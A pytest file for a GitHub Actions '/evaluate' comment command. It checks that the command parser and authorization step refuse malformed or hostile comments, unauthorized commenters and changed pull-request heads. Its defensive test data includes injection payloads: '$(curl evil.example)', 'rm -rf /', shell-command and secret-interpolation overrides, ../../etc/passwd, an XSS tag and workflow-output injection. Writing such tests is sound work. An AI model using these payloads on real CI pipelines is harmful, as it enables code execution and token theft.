"""Commands in comments: hostile comments and payloads, given to the first step of workflows/commands.yml."""

from __future__ import annotations

import json
import os
import re
import subprocess
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.doubles.github.events import example
from tests.doubles.github.server import Fault, GitHubDouble
from tests.github.conftest import BASE, HEAD

from nel_action.github import commands
from nel_action.github.commands import Command, Refusal, parse_command

ROOT = Path(__file__).parents[2]
CREATED = "2026-03-01T12:00:00Z"
BEFORE, AFTER = "2026-03-01T11:59:59Z", "2026-03-01T12:00:01Z"
Payload = dict[str, Any]


def comment_payload(body: object = "/evaluate", *, author: str = "maria", number: int = 2) -> Payload:
    """Return the payload of a new comment on a pull request."""
    payload = deepcopy(example("issue_comment.created"))
    payload["issue"] |= {"number": number, "state": "open", "pull_request": {"url": "https://github.example/x"}}
    payload["comment"] |= {"id": 77, "body": body, "created_at": CREATED, "updated_at": CREATED}
    payload["comment"]["user"] |= {"login": author, "type": "User"}
    return payload


@dataclass
class Step:
    """The first step of the workflow; the head of pull request 2 was pushed before the comment."""

    hub: GitHubDouble
    folder: Path
    log: Callable[[], str]

    def environ(self, payload: Payload, **more: str) -> dict[str, str]:
        (self.folder / "event.json").write_text(json.dumps(payload))
        return {
            "GITHUB_API_URL": self.hub.url,
            "GITHUB_REPOSITORY": self.hub.store.repository,
            "GITHUB_EVENT_NAME": "issue_comment",
            "GITHUB_EVENT_PATH": str(self.folder / "event.json"),
            "GITHUB_OUTPUT": str(self.folder / "outputs"),
            "INPUT_GITHUB_TOKEN": self.hub.token,
        } | more

    def run(self, payload: Payload, **more: str) -> tuple[int, str]:
        """Return exit status and outputs."""
        code = commands.main(self.environ(payload, **more))
        return code, self.outputs()

    def outputs(self) -> str:
        path = self.folder / "outputs"
        return path.read_text() if path.exists() else ""

    def answers(self) -> list[str]:
        return [comment["body"] for comment in self.hub.store.comments_of(2)]


@pytest.fixture
def step(hub: GitHubDouble, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Step:
    hub.store.add_pull(2, head=HEAD, base=BASE)
    hub.store.add_push(BASE, "2026-02-01T00:00:00Z")
    hub.store.add_push(HEAD, BEFORE)
    hub.store.roles |= {"maria": "write", "stranger": "read"}
    return Step(hub, tmp_path, lambda: capsys.readouterr().out)


ZERO_WIDTH, NO_BREAK, CYRILLIC_E, FULL_WIDTH_SLASH = "\u200b", "\u00a0", "\u0435", "\uff0f"

NO_COMMANDS = [
    "",
    " ",
    "LGTM",
    "please /evaluate this",
    "evaluate",
    "\\/evaluate",
    "//evaluate",
    "/evaluated",
    "/evaluate-all",
    "/evaluate;",
    "/evaluate$(id)",
    "/evaluate`id`",
    "/evaluate=1",
    "/Evaluate",
    "/EVALUATE",
    "/eVaLuAtE gsm8k",
    " /evaluate",
    "    /evaluate",
    "\t/evaluate",
    "\n/evaluate",
    "> /evaluate",
    "- /evaluate",
    "# /evaluate",
    "`/evaluate`",
    "```\n/evaluate\n```",
    "~~~\n/evaluate",
    "<!-- /evaluate -->",
    "<details>\n/evaluate\n</details>",
    "I said:\n\n/evaluate",
    f"/{CYRILLIC_E}valuate",
    f"{FULL_WIDTH_SLASH}evaluate",
    f"/eval{ZERO_WIDTH}uate",
    f"{ZERO_WIDTH}/evaluate",
    f"/evaluate{ZERO_WIDTH}",
    f"/evaluate{NO_BREAK}gsm8k",
    "\ufeff/evaluate",
    "/evaluate\u2028gsm8k",
    "/evaluate\x00",
    "/evaluate\x0bgsm8k",
    "x" * 65_536,
    None,
    7,
    ["/evaluate"],
    {"toString": "/evaluate"},
]
"""Bodies that are no command, whoever writes them."""

REFUSED = [
    "/evaluate\n/evaluate",
    "/evaluate gsm8k\n/evaluate mmlu",
    "/evaluate\r\n\r\nthanks!",
    "/evaluate\n```\nrm -rf /\n```",
    "/evaluate\n---\ngate: {tasks: {}}",
    "/evaluate " + "a" * 600,
    "/evaluate " + " ".join(f"t{index}" for index in range(21)),
    "/evaluate gsm8k gsm8k",
    "/evaluate limit=1 limit=2",
    "/evaluate limit=0",
    "/evaluate limit=-5",
    "/evaluate limit=1e9",
    "/evaluate limit=0.5",
    "/evaluate limit=99999999",
    "/evaluate limit=",
    "/evaluate limit = 5",
    "/evaluate =5",
    "/evaluate limit=\u0661\u0662",
    "/evaluate Limit=5",
    "/evaluate gate.tasks.gsm8k.min=0",
    "/evaluate ++gate=null",
    "/evaluate ~gate",
    "/evaluate execution.type=local",
    "/evaluate evaluation.tasks.0.command=[sh,-c,id]",
    "/evaluate target.api_endpoint.url=http://evil.example",
    "/evaluate target.api_endpoint.api_key_name=GITHUB_TOKEN",
    "/evaluate target.model=${oc.env:GITHUB_TOKEN}",
    "/evaluate target.model=$(id)",
    "/evaluate target.model=a,b",
    "/evaluate target.model={a:b}",
    "/evaluate --config-dir=/etc",
    "/evaluate -o gate=null",
    "/evaluate gsm8k;id",
    "/evaluate gsm8k && id",
    "/evaluate $(curl evil.example)",
    "/evaluate `id`",
    "/evaluate 'gsm8k'",
    '/evaluate "limit=5"',
    "/evaluate ${{ secrets.MODEL_API_KEY }}",
    "/evaluate ::set-output name=sha::" + "c" * 40,
    "/evaluate %0Asha=" + "c" * 40,
    "/evaluate ../../etc/passwd",
    f"/evaluate gsm8k{ZERO_WIDTH}",
    f"/evaluate gsm{NO_BREAK}8k",
    f"/evaluate {CYRILLIC_E}val",
    "/evaluate @org/everyone",
    "/evaluate <img src=x onerror=alert(1)>",
    "/evaluate [x](https://evil.example)",
    "/evaluate \x1b[31mred",
    "/evaluate sha=" + "c" * 40,
]
"""Bodies of people with write access that are a malformed command: they are answered, and nothing is run."""


def short(body: object) -> str:
    return ascii(body)[:40]


@pytest.mark.parametrize("body", NO_COMMANDS, ids=short)
def test_other_text_is_ignored_without_a_request(step: Step, body: object) -> None:
    assert step.run(comment_payload(body)) == (0, "")
    assert step.hub.seen == []


@pytest.mark.parametrize("body", REFUSED, ids=short)
def test_malformed_command_is_answered_and_evaluates_nothing(step: Step, body: str) -> None:
    assert step.run(comment_payload(body)) == (0, "")
    (answer,) = step.answers()
    first, text = answer.split("\n", 1)
    assert first == "<!-- nel-action:command-77 -->"
    assert text.startswith("/evaluate is refused: ")
    outside_code = re.sub(r"`[^`\n]*`", "", text)
    assert not re.search(r"[<@$\[{]|\x1b|evil", outside_code), "the text of the comment is quoted as code only"
    assert "\n" not in text
    assert not re.search(r"^::(?!notice::)|^%|\x1b", step.log(), re.MULTILINE)


@pytest.mark.parametrize("body", [*REFUSED, "/evaluate", "/evaluate gsm8k limit=5"], ids=short)
def test_commands_of_other_people_are_ignored_after_one_request(step: Step, body: str) -> None:
    assert step.run(comment_payload(body, author="stranger")) == (0, "")
    assert [seen.method for seen in step.hub.seen] == ["GET"]


@pytest.mark.parametrize(
    ("body", "command"),
    [
        ("/evaluate", Command()),
        ("/evaluate \r\n", Command()),
        ("/evaluate  gsm8k\t", Command(tasks=("gsm8k",))),
        ("/evaluate gsm8k limit=100", Command(tasks=("gsm8k",), limit=100)),
        ("/evaluate limit=7 a.b_c-d file.py@task", Command(tasks=("a.b_c-d", "file.py@task"), limit=7)),
        ("/evaluate target.model=org/model:v1", Command(model="org/model:v1")),
    ],
)
def test_grammar(step: Step, body: str, command: Command) -> None:
    assert parse_command(body) == command
    assert parse_command(str(command)) == command
    assert command.informative is (command != Command())
    assert step.run(comment_payload(body)) == (0, f"sha={HEAD}\n")
    assert step.answers() == []


def on_an_issue(payload: Payload) -> None:
    del payload["issue"]["pull_request"]


def edited(payload: Payload) -> None:
    payload["action"] = "edited"


def deleted(payload: Payload) -> None:
    payload["action"] = "deleted"


def of_a_bot(payload: Payload) -> None:
    payload["comment"]["user"] |= {"login": "github-actions[bot]", "type": "Bot"}


def of_a_bot_called_user(payload: Payload) -> None:
    payload["comment"]["user"]["login"] = "maria[bot]"


def of_an_app_for_a_person(payload: Payload) -> None:
    payload["comment"]["performed_via_github_app"] = {"id": 1, "slug": "assistant"}


def of_an_organisation(payload: Payload) -> None:
    payload["comment"]["user"]["type"] = "Organization"


def without_author(payload: Payload) -> None:
    payload["comment"]["user"] = None


def with_a_path_as_author(payload: Payload) -> None:
    payload["comment"]["user"]["login"] = "../../collaborators/maria"


def with_a_query_as_author(payload: Payload) -> None:
    payload["comment"]["user"]["login"] = "maria?x="


def without_time(payload: Payload) -> None:
    del payload["comment"]["created_at"]


def with_a_late_time(payload: Payload) -> None:
    payload["comment"]["created_at"] = "9999"


def with_text_as_number(payload: Payload) -> None:
    payload["issue"]["number"] = "2/../3"


def without_comment(payload: Payload) -> None:
    payload["comment"] = []


PAYLOADS = [
    on_an_issue,
    edited,
    deleted,
    of_a_bot,
    of_a_bot_called_user,
    of_an_app_for_a_person,
    of_an_organisation,
    without_author,
    with_a_path_as_author,
    with_a_query_as_author,
    without_time,
    with_a_late_time,
    with_text_as_number,
    without_comment,
]


@pytest.mark.parametrize("change", PAYLOADS, ids=lambda change: str(change.__name__))
def test_event_that_is_no_comment_of_a_person_is_ignored(step: Step, change: Callable[[Payload], None]) -> None:
    payload = comment_payload()
    change(payload)
    assert step.run(payload) == (0, "")
    assert step.hub.seen == []


def test_another_event_with_the_payload_of_a_comment_is_ignored(step: Step) -> None:
    assert step.run(comment_payload(), GITHUB_EVENT_NAME="pull_request_target") == (0, "")
    assert step.hub.seen == []


@pytest.mark.parametrize(
    ("role", "allowed"),
    [("admin", True), ("maintain", True), ("write", True), ("triage", False), ("read", False), ("none", False)],
)
def test_permission_is_that_of_the_api(step: Step, role: str, *, allowed: bool) -> None:
    step.hub.store.roles["maria"] = role
    payload = comment_payload()
    payload["comment"]["author_association"] = "NONE" if allowed else "OWNER"
    assert step.run(payload) == (0, f"sha={HEAD}\n" if allowed else "")
    assert step.answers() == []


@pytest.mark.parametrize("status", [403, 404, 500, None])
def test_unreadable_permission_is_refused_and_said_once(step: Step, status: int | None) -> None:
    step.hub.faults = [Fault("GET .*/permission", status, times=9)]
    assert step.run(comment_payload()) == (1, "")
    assert step.run(comment_payload(), GITHUB_RUN_ATTEMPT="2") == (1, "")
    (answer,) = step.answers()
    assert "the permission of maria could not be read" in answer
    assert status is None or f"(HTTP {status})" in answer


def test_permission_of_another_person_is_not_used(step: Step, monkeypatch: pytest.MonkeyPatch) -> None:
    original = commands._request

    def renamed(*arguments: Any) -> Any:  # noqa: ANN401 - JSON
        answer = original(*arguments)
        return answer | {"user": answer["user"] | {"login": "somebody"}} if "permission" in answer else answer

    monkeypatch.setattr(commands, "_request", renamed)
    assert step.run(comment_payload()) == (0, "")


@pytest.mark.parametrize("unreadable", ["pulls/2", "activity"])
def test_unreadable_head_is_refused(step: Step, unreadable: str) -> None:
    step.hub.faults = [Fault(f"GET .*/{unreadable}", 502, times=9)]
    assert step.run(comment_payload()) == (1, "")
    assert len(step.answers()) == 1


def moved_by_a_push(hub: GitHubDouble) -> None:
    hub.store.pulls[2]["head"]["sha"] = "c" * 40
    hub.store.add_push("c" * 40, AFTER)


def moved_in_the_same_second(hub: GitHubDouble) -> None:
    hub.store.pushes.clear()
    hub.store.add_push(HEAD, CREATED)


def moved_away_and_back(hub: GitHubDouble) -> None:
    hub.store.add_push("c" * 40, AFTER)
    hub.store.add_push(HEAD, "2026-03-01T12:00:02Z")


def moved_but_not_listed_yet(hub: GitHubDouble) -> None:
    hub.store.pulls[2]["head"]["sha"] = "c" * 40


def without_known_pushes(hub: GitHubDouble) -> None:
    hub.store.pushes.clear()


def pushed_to_another_branch(hub: GitHubDouble) -> None:
    for push in hub.store.pushes:
        push["ref"] = "refs/heads/other"


def closed(hub: GitHubDouble) -> None:
    hub.store.pulls[2]["state"] = "closed"


def fork(hub: GitHubDouble) -> None:
    hub.store.add_pull(2, head=HEAD, base=BASE, head_repository="mallory/Hello-World")


HEADS: dict[Callable[[GitHubDouble], None], str] = {
    moved_by_a_push: "has moved to ccccccc",
    moved_in_the_same_second: "has moved",
    moved_away_and_back: "has moved",
    moved_but_not_listed_yet: "has moved",
    without_known_pushes: "cannot be determined",
    pushed_to_another_branch: "cannot be determined",
    closed: "closed",
    fork: "fork",
}


@pytest.mark.parametrize("change", HEADS, ids=lambda change: str(change.__name__))
def test_head_that_is_not_the_one_that_was_seen_is_refused(step: Step, change: Callable[[GitHubDouble], None]) -> None:
    change(step.hub)
    for body in ("/evaluate", "/evaluate gsm8k"):
        step.hub.store.comments.clear()
        assert step.run(comment_payload(body)) == (0, "")
        (answer,) = step.answers()
        assert HEADS[change] in answer


@pytest.mark.parametrize(
    "branch", ["a&per_page=100", "a#b", "a?b", "a%2Fb", "refs/heads/main", "$(id)", "日本/ü", "a b"]
)
def test_branch_of_any_name_is_asked_for_by_its_name(step: Step, branch: str) -> None:
    step.hub.store.pulls[2]["head"]["ref"] = branch
    assert step.run(comment_payload()) == (0, ""), "the pushes are those of another branch"
    step.hub.store.add_push(HEAD, BEFORE, branch=branch)
    assert step.run(comment_payload()) == (0, f"sha={HEAD}\n")


def test_pull_request_that_does_not_exist_is_refused(step: Step) -> None:
    assert step.run(comment_payload(number=99)) == (1, "")
    assert len(step.hub.store.comments_of(99)) == 1


def test_head_of_a_deleted_fork_is_refused() -> None:
    comment = commands.read_comment(comment_payload())
    assert comment
    answers: dict[str, Any] = {
        "permission": {"permission": "admin", "user": {"login": "maria"}},
        "2": {"state": "open", "head": {"sha": HEAD, "ref": "change", "repo": None}},
    }
    with pytest.raises(Refusal, match="fork"):
        commands.authorize(comment, lambda path, _query: answers[path.rpartition("/")[2]], "o/r")


def test_draft_is_evaluated(step: Step) -> None:
    step.hub.store.pulls[2]["draft"] = True
    assert step.run(comment_payload()) == (0, f"sha={HEAD}\n")


def test_push_to_another_branch_after_the_comment_does_not_matter(step: Step) -> None:
    step.hub.store.add_push("c" * 40, AFTER, branch="other")
    assert step.run(comment_payload()) == (0, f"sha={HEAD}\n")


def test_answer_that_is_refused_does_not_fail_the_step(step: Step) -> None:
    step.hub.grant(contents="read", pull_requests="read")
    assert step.run(comment_payload("/evaluate ~gate")) == (0, "")
    assert "::warning::the answer could not be written" in step.log()


def test_token_is_not_sent_to_the_target_of_a_redirect(step: Step) -> None:
    target = step.hub.url.replace("127.0.0.1", "localhost") + "/storage/1"
    step.hub.store.archives[1] = b'{"permission": "admin", "user": {"login": "maria"}}'
    step.hub.faults = [Fault("GET .*/permission", 302, headers={"Location": target})]
    step.run(comment_payload())
    assert step.hub.complaints == []


def test_workflow_runs_the_step_from_a_file_without_installation(step: Step) -> None:
    action = yaml.safe_load((ROOT / "command/action.yml").read_text())
    (only,) = action["runs"]["steps"]
    environ = {"PATH": os.environ["PATH"], "GITHUB_ACTION_PATH": str(ROOT / "command")}
    argv = ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", "-c", only["run"]]
    for body, expected in (("/evaluate", f"sha={HEAD}\n"), ("/evaluate $(id)", "")):
        (step.folder / "outputs").unlink(missing_ok=True)
        full = environ | step.environ(comment_payload(body))
        done = subprocess.run(argv, env=full, cwd=step.folder, capture_output=True, text=True, check=False, timeout=60)
        assert (done.returncode, step.outputs()) == (0, expected), done.stderr


def test_first_step_needs_the_standard_library_only() -> None:
    text = (ROOT / "src/nel_action/github/commands.py").read_text()
    imported = set(re.findall(r"^(?:import|from) (\w+)", text, re.MULTILINE))
    assert imported <= {
        "__future__",
        "collections",
        "dataclasses",
        "json",
        "os",
        "pathlib",
        "re",
        "sys",
        "typing",
        "urllib",
    }


def test_workflow_gives_no_text_of_a_comment_to_a_step() -> None:
    workflow = yaml.safe_load((ROOT / "workflows/commands.yml").read_text())
    assert workflow[True] == {"issue_comment": {"types": ["created"]}}
    assert "comment.id" in workflow["concurrency"]["group"], "a comment of somebody else must not cancel a command"
    first, second = workflow["jobs"]["authorize"], workflow["jobs"]["evaluate"]
    assert [list(step) for step in first["steps"]] == [["name", "id", "uses"]]
    assert second["needs"] == "authorize"
    assert second["if"] == "needs.authorize.outputs.sha != ''"
    assert "github.event" not in json.dumps(second["steps"])
    checkout = second["steps"][0]["with"]
    assert checkout == {"ref": "${{ needs.authorize.outputs.sha }}", "persist-credentials": False}


def test_caches_are_not_shared_with_runs_for_comments() -> None:
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    (cache,) = [step for step in action["runs"]["steps"] if step.get("uses", "").startswith("actions/cache@")]
    for event in ("workflow_run", "pull_request_target", "issue_comment"):
        assert f"github.event_name != '{event}'" in cache["if"]


def test_refusal_quotes_at_most_one_line_of_code() -> None:
    with pytest.raises(Refusal) as refused:
        parse_command("/evaluate " + "`@`" * 100)
    assert str(refused.value).count("`") == 2 * 3, "the argument, and two forms of the command"
